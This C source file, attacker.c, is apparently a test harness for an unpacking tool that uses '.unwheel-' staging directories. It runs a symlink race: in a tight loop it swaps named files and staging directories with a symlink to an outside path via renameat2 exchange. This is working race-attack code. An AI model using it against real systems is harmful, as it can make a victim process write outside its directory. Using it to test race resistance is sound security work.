/*
 * attacker.c - somebody who owns the directory that another one writes to
 *
 *   attacker DIRECTORY OUTSIDE [NAME...]
 *
 * As fast as it can, until its input ends, it exchanges for a symbolic link to
 * OUTSIDE, and back: each NAME below DIRECTORY, every staging directory that it
 * finds there, and each NAME in that, too.  In the end it prints how many
 * exchanges it made.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <poll.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define EXCHANGE 2 /* RENAME_EXCHANGE */
#define STAGING	 ".unwheel-"
#define ROUNDS	 16

static int directory;
static const char *outside;
static char link_name[32];
static unsigned links;
static unsigned long exchanges;

static bool exchange(int dir, const char *name)
{
	if (syscall(SYS_renameat2, dir, name, directory, link_name, EXCHANGE) !=
	    0)
		return false;
	exchanges++;
	return true;
}

/* Called as staging directories are: a destination with it counts as empty. */
static bool make_link(void)
{
	snprintf(link_name, sizeof(link_name), STAGING "%016x", links++);
	return symlinkat(outside, directory, link_name) == 0;
}

/*
 * There and back.  If it cannot be brought back, somebody has moved the link
 * away: there is another one.
 */
static void attack(int dir, const char *name)
{
	if (exchange(dir, name) && !exchange(dir, name))
		make_link();
}

static void attack_inside(const char *staging, char *const *names)
{
	int dir = openat(directory, staging,
			 O_RDONLY | O_DIRECTORY | O_NOFOLLOW | O_CLOEXEC);

	if (dir < 0)
		return;
	for (; *names != NULL; names++)
		attack(dir, *names);
	close(dir);
}

static void attack_staging(char *const *names)
{
	int copy = openat(directory, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	DIR *list = copy < 0 ? NULL : fdopendir(copy);
	struct dirent *entry;

	if (list == NULL)
		return;
	while ((entry = readdir(list)) != NULL) {
		if (strncmp(entry->d_name, STAGING, strlen(STAGING)) != 0 ||
		    strcmp(entry->d_name, link_name) == 0)
			continue;
		for (int i = 0; i < ROUNDS; i++) {
			attack_inside(entry->d_name, names);
			attack(directory, entry->d_name);
		}
	}
	closedir(list);
}

static bool goes_on(void)
{
	struct pollfd input = {.fd = STDIN_FILENO, .events = POLLIN};

	return poll(&input, 1, 0) == 0;
}

int main(int argc, char **argv)
{
	if (argc < 3)
		return 2;
	outside = argv[2];
	directory = open(argv[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (directory < 0 || !make_link()) {
		perror("attacker");
		return 2;
	}
	while (goes_on()) {
		attack_staging(argv + 3);
		for (int k = 3; k < argc; k++)
			attack(directory, argv[k]);
	}
	printf("%lu\n", exchanges);
	return 0;
}
